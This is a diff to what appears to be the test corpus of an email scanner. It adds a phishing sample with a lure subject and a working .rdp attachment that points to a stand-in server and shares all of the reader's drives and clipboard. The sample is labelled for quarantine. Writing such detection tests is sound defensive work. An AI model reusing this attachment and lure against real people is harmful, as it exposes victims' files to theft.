@@ -287,6 +287,13 @@ func malicious(nested7z, enc7z []byte) []Sample {
 		mail{subject: "Shortcut", root: multipart("mixed", text("Use the shortcut to open the share.\n"),
 			attach("application/octet-stream", "document.lnk", fakeLNK(`C:\Windows\System32\notepad.exe`)))})
 
+	// The 2024 spear-phishing wave: a signed-looking .rdp file that connects
+	// to the sender's server and shares the reader's drives with it.
+	add(bad("rdp-attachment", "a Remote Desktop file that connects to the sender's server with the reader's drives shared", policy.Quarantine,
+		w("heuristic", "dangerous-shortcut", "2")),
+		mail{subject: "Zero Trust access: connect now", root: multipart("mixed", text("Open the attached file to connect to the secure workspace.\n"),
+			attach("application/x-rdp", "AWS Secure Access.rdp", []byte("full address:s:rdp.files.example.invalid:3389\r\nredirectdrives:i:1\r\ndrivestoredirect:s:*\r\nredirectclipboard:i:1\r\nremoteapplicationmode:i:1\r\nremoteapplicationprogram:s:||AWS\r\n")))})
+
 	add(bad("zip-screensaver", "a program (.scr) inside a zip", policy.Quarantine,
 		w("heuristic", "executable-in-container", "2/photos.zip/holiday.scr")),
 		mail{subject: "Photos", root: multipart("mixed", text("Holiday photos!\n"), attach("application/zip", "photos.zip", zipOf(file{"holiday.scr", fakePE("screensaver")})))})
